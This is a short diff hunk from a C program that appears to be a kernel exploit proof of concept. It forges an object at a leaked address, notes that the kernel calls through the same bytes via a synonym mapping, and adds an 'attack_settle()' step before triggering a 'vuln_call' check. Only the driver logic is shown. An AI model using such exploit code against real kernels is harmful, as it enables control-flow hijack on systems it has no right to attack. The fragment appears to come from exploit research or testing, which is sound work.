@@ -17,6 +17,7 @@ int main(void)
 	payload_object(page, synonym, &leak);
 	attack_say("forged object at 0x%lx, in frame 0x%lx", (uintptr_t)page, attack_pfn(page));
 	attack_say("the kernel calls through the same bytes at 0x%lx", synonym);
+	attack_settle();
 	attack_check("vuln_call", bw_vuln_call(synonym));
 	return attack_finish();
 }
